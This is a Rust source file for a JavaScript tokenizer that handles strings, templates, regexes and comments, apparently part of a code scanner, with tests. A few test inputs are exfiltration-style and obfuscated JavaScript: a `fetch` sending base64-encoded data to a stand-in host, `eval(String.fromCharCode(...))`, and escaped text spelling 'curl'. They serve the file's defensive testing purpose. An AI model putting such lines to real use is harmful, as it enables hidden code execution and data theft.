//! JavaScript (and TypeScript, read the same way) cut into tokens: names,
//! string, template and regular expression literals, numbers,
//! punctuation, comments, and every line break outside a token.
//!
//! A template literal is one [`Kind::Str`] whose value is its text with
//! escapes decoded and every `${expression}` kept as written (templates
//! nested inside one are followed to [`MAX_DEPTH`]). A `/` begins a regular
//! expression where an operand is expected: at the start, after
//! punctuation other than `)` and `]`, and after keywords such as `return`
//! or `typeof`; after a name, a number, a literal, `)` or `]` it divides.
//! A regular expression is a [`Kind::Str`] whose value is the pattern; one
//! left open at the end of its line is a division after all, and so is
//! every other `/` on that line. A `#!` line at the start is a comment.

use super::{
    Escapes, Kind, MAX_DEPTH, Token, char_at, ident_end, line_break, line_end, number_end,
    punct_len, slice, token, unescape,
};

/// Keywords after which a `/` begins a regular expression.
const BEFORE_OPERAND: [&str; 14] = [
    "return",
    "typeof",
    "instanceof",
    "in",
    "of",
    "new",
    "delete",
    "void",
    "throw",
    "case",
    "do",
    "else",
    "yield",
    "await",
];

/// The tokens of `src`, in order.
pub(crate) fn js(src: &str) -> Vec<Token> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    let mut pos = 0;
    // Whether an operand may come next (so a `/` begins a regex).
    let mut operand = true;
    // A regex left open on this line: every `/` before here divides.
    let mut divides_until = 0;
    if src.starts_with("#!") {
        pos = line_end(b, 0);
        out.push(token(Kind::Comment, 0..pos, slice(src, 2..pos).to_owned()));
    }
    while let Some(&c) = b.get(pos) {
        let start = pos;
        let next = b.get(pos + 1).copied();
        let t = match c {
            b' ' | b'\t' | b'\x0b' | b'\x0c' => {
                pos += 1;
                continue;
            }
            b'\n' | b'\r' => {
                pos += line_break(b, pos);
                out.push(token(
                    Kind::Newline,
                    start..pos,
                    slice(src, start..pos).to_owned(),
                ));
                continue;
            }
            b'/' if next == Some(b'/') => {
                pos = line_end(b, pos);
                out.push(token(
                    Kind::Comment,
                    start..pos,
                    slice(src, start + 2..pos).to_owned(),
                ));
                continue;
            }
            b'/' if next == Some(b'*') => {
                let body = pos + 2;
                let close = slice(src, body..b.len()).find("*/").map(|i| body + i);
                pos = close.map_or(b.len(), |e| e + 2);
                let text = slice(src, body..close.unwrap_or(b.len())).to_owned();
                out.push(token(Kind::Comment, start..pos, text));
                continue;
            }
            b'/' if operand && pos >= divides_until => match regex(b, pos) {
                Ok((pattern_end, end)) => {
                    pos = end;
                    let pattern = slice(src, start + 1..pattern_end).to_owned();
                    token(Kind::Str, start..end, pattern)
                }
                Err(line_end) => {
                    divides_until = line_end;
                    pos += 1;
                    token(Kind::Punct, start..pos, "/".to_owned())
                }
            },
            b'\'' | b'"' => {
                let (content, end) = string(b, pos);
                pos = end;
                token(
                    Kind::Str,
                    start..end,
                    unescape(slice(src, content), Escapes::Js),
                )
            }
            b'`' => {
                let (value, end) = template(src, pos);
                pos = end;
                token(Kind::Str, start..end, value)
            }
            b'0'..=b'9' => {
                pos = number_end(b, pos);
                token(Kind::Number, start..pos, slice(src, start..pos).to_owned())
            }
            b'.' if next.is_some_and(|d| d.is_ascii_digit()) => {
                pos = number_end(b, pos);
                token(Kind::Number, start..pos, slice(src, start..pos).to_owned())
            }
            _ => {
                let end = ident_end(src, pos, true);
                if end > pos {
                    pos = end;
                    token(Kind::Ident, start..end, slice(src, start..end).to_owned())
                } else {
                    let Some(ch) = char_at(src, pos) else {
                        pos += 1;
                        continue;
                    };
                    if matches!(ch, '\u{2028}' | '\u{2029}') {
                        pos += ch.len_utf8();
                        out.push(token(Kind::Newline, start..pos, ch.to_string()));
                        continue;
                    }
                    if ch.is_whitespace() {
                        pos += ch.len_utf8();
                        continue;
                    }
                    pos += punct_len(slice(src, pos..b.len()));
                    token(Kind::Punct, start..pos, slice(src, start..pos).to_owned())
                }
            }
        };
        operand = match t.kind {
            Kind::Punct => !matches!(t.value.as_str(), ")" | "]"),
            Kind::Ident => BEFORE_OPERAND.contains(&t.value.as_str()),
            _ => false,
        };
        out.push(t);
    }
    out
}

/// The regex literal at `start` (a `/`): where its pattern ends and where
/// it ends after its flags; or, when its line ends first, where that is.
fn regex(b: &[u8], start: usize) -> Result<(usize, usize), usize> {
    let mut i = start + 1;
    let mut class = false;
    loop {
        match b.get(i) {
            None | Some(b'\n' | b'\r') => return Err(i.min(b.len())),
            Some(b'\\') => {
                if matches!(b.get(i + 1), None | Some(b'\n' | b'\r')) {
                    return Err((i + 1).min(b.len()));
                }
                i += 2;
            }
            Some(b'[') => {
                class = true;
                i += 1;
            }
            Some(b']') => {
                class = false;
                i += 1;
            }
            Some(b'/') if !class => {
                let pattern_end = i;
                i += 1;
                while b.get(i).is_some_and(u8::is_ascii_alphanumeric) {
                    i += 1;
                }
                return Ok((pattern_end, i));
            }
            _ => i += 1,
        }
    }
}

/// The quoted string at `start`: its content's range and where it ends.
/// One left open ends its line.
fn string(b: &[u8], start: usize) -> (std::ops::Range<usize>, usize) {
    let q = b.get(start).copied().unwrap_or(b'"');
    let mut i = start + 1;
    loop {
        match b.get(i) {
            None => return (start + 1..b.len(), b.len()),
            Some(b'\\') => i = (i + 1 + line_break(b, i + 1).max(1)).min(b.len()),
            Some(b'\n' | b'\r') => return (start + 1..i, i),
            Some(&c) if c == q => return (start + 1..i, i + 1),
            Some(_) => i += 1,
        }
    }
}

/// Where a template literal is, inside out.
#[derive(Debug, Clone, Copy)]
enum Frame {
    /// Template text.
    Text,
    /// A `${..}` expression, with the braces opened inside it.
    Expr(usize),
}

/// The template literal at `start` (a backquote): its value and where it
/// ends.
fn template(src: &str, start: usize) -> (String, usize) {
    let b = src.as_bytes();
    let len = b.len();
    let decode = |from: usize, to: usize| unescape(slice(src, from..to), Escapes::Js);
    let mut stack = vec![Frame::Text];
    let mut value = String::new();
    let mut i = start + 1;
    // Where the outer template's current text, or expression, began.
    let mut lit = i;
    let mut expr = i;
    loop {
        let Some(&c) = b.get(i) else {
            if stack.len() == 1 {
                value.push_str(&decode(lit, len));
            } else {
                value.push_str(slice(src, expr..len));
            }
            return (value, len);
        };
        let outer = stack.len() == 1;
        let room = stack.len() < MAX_DEPTH;
        match (stack.last_mut(), c) {
            (Some(Frame::Text), b'\\') => i = (i + 2).min(len),
            (Some(Frame::Text), b'`') => {
                stack.pop();
                if stack.is_empty() {
                    value.push_str(&decode(lit, i));
                    return (value, i + 1);
                }
                i += 1;
            }
            (Some(Frame::Text), b'$') if b.get(i + 1) == Some(&b'{') => {
                if outer {
                    value.push_str(&decode(lit, i));
                    expr = i;
                }
                stack.push(Frame::Expr(0));
                i += 2;
            }
            (Some(Frame::Expr(open)), b'{') => {
                *open += 1;
                i += 1;
            }
            (Some(Frame::Expr(open)), b'}') if *open > 0 => {
                *open -= 1;
                i += 1;
            }
            (Some(Frame::Expr(_)), b'}') => {
                stack.pop();
                i += 1;
                if stack.len() == 1 {
                    value.push_str(slice(src, expr..i));
                    lit = i;
                }
            }
            (Some(Frame::Expr(_)), b'\'' | b'"') => i = string(b, i).1,
            (Some(Frame::Expr(_)), b'`') if room => {
                stack.push(Frame::Text);
                i += 1;
            }
            _ => i += 1,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn values(src: &str, kind: Kind) -> Vec<String> {
        js(src)
            .into_iter()
            .filter(|t| t.kind == kind)
            .map(|t| t.value)
            .collect()
    }

    #[test]
    fn eval_of_char_codes() {
        let src = "eval(String.fromCharCode(...r))";
        let toks = js(src);
        let v: Vec<(Kind, &str)> = toks.iter().map(|t| (t.kind, t.value.as_str())).collect();
        assert_eq!(
            v,
            [
                (Kind::Ident, "eval"),
                (Kind::Punct, "("),
                (Kind::Ident, "String"),
                (Kind::Punct, "."),
                (Kind::Ident, "fromCharCode"),
                (Kind::Punct, "("),
                (Kind::Punct, "..."),
                (Kind::Ident, "r"),
                (Kind::Punct, ")"),
                (Kind::Punct, ")")
            ]
        );
        assert!(toks.iter().all(|t| src[t.span.clone()] == t.value));
    }

    #[test]
    fn strings_decode_escapes() {
        assert_eq!(
            values(
                r#"a = '\x63url\u0020' + "\u{68}ttp\"s\"" + 'open"#,
                Kind::Str
            ),
            ["curl ", "http\"s\"", "open"]
        );
        assert_eq!(values("'a\\\nb'", Kind::Str), ["ab"]);
    }

    #[test]
    fn templates_keep_expressions() {
        let src = "fetch(`https://e.example/?d=${btoa(JSON.stringify({a: `${x}`}))}&k=\\x41${'}'}`)\nnext";
        let toks = js(src);
        let t = &toks[2];
        assert_eq!(t.kind, Kind::Str);
        assert_eq!(
            t.value,
            "https://e.example/?d=${btoa(JSON.stringify({a: `${x}`}))}&k=A${'}'}"
        );
        assert_eq!(&src[t.span.clone()], &src[6..src.len() - 6]);
        assert_eq!(values(src, Kind::Newline), ["\n"]);
        assert_eq!(values("`line\none`", Kind::Str), ["line\none"]);
        assert_eq!(values("`open ${a", Kind::Str), ["open ${a"]);
    }

    #[test]
    fn regex_or_division() {
        assert_eq!(
            values(
                "x = a / b / c; y = s.replace(/[/\\]]+/g, '') ; return /ab+c/i.test(z)",
                Kind::Str
            ),
            ["[/\\]]+", "", "ab+c"]
        );
        assert_eq!(values("x = a / b / c", Kind::Punct), ["=", "/", "/"]);
        assert_eq!(values("f(x) / 2 / 3", Kind::Str), Vec::<String>::new());
        assert_eq!(values("if (/^#!/.test(s)) {}", Kind::Str), ["^#!"]);
        let open = "x = (/[ 1, (/ 2\ny = /re/";
        assert_eq!(values(open, Kind::Str), ["re"]);
        assert_eq!(
            values(open, Kind::Punct),
            ["=", "(", "/", "[", ",", "(", "/", "="]
        );
        assert_eq!(values("a = 2\n/re/", Kind::Str), Vec::<String>::new());
    }

    #[test]
    fn comments_and_lines() {
        let src = "#!/usr/bin/env node\na // one\r\n/* two\nlines */ b\u{2028}c";
        let toks = js(src);
        assert_eq!(
            values(src, Kind::Comment),
            ["/usr/bin/env node", " one", " two\nlines "]
        );
        assert_eq!(values(src, Kind::Newline), ["\n", "\r\n", "\u{2028}"]);
        assert_eq!(values(src, Kind::Ident), ["a", "b", "c"]);
        assert!(toks.windows(2).all(|w| w[0].span.end <= w[1].span.start));
        assert_eq!(values("/* open", Kind::Comment), [" open"]);
    }

    #[test]
    fn names_numbers_and_operators() {
        assert_eq!(
            values("$el = _x + café1 + #p", Kind::Ident),
            ["$el", "_x", "café1", "p"]
        );
        assert_eq!(
            values("0xFF + 1e+3 + 10n + .5 + 1_000", Kind::Number),
            ["0xFF", "1e+3", "10n", ".5", "1_000"]
        );
        assert_eq!(
            values("a === b !== c => d ** e", Kind::Punct),
            ["==", "=", "!=", "=", "=>", "**"]
        );
    }

    fn hostile() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            "`", "${", "}", "{", "'", "\"", "/", "//", "/*", "*/", "[", "]", "(", ")", "\\",
            "\\\\\\", "\\u{", "\\x", "\n", "\r\n", "\u{2028}", " ", "é", "€", "𝄞", "\u{202e}", "x",
            "return ", "1", ".", "=", "#!", "...",
        ]);
        prop::collection::vec(pieces, 0..120).prop_map(|v| v.concat())
    }

    fn check(src: &str) {
        let mut last = 0;
        for t in js(src) {
            assert!(
                last <= t.span.start && t.span.start < t.span.end,
                "{t:?} in {src:?}"
            );
            assert!(src.get(t.span.clone()).is_some(), "{t:?} in {src:?}");
            last = t.span.end;
        }
    }

    #[test]
    fn deep_templates() {
        let deep = "`${".repeat(20_000);
        check(&deep);
        let toks = js(&deep);
        assert_eq!(toks.len(), 1);
    }

    proptest! {
        #[test]
        fn never_panics_and_spans_are_valid(src in hostile()) {
            check(&src);
        }

        #[test]
        fn arbitrary_text(src in any::<String>()) {
            check(&src);
        }
    }
}
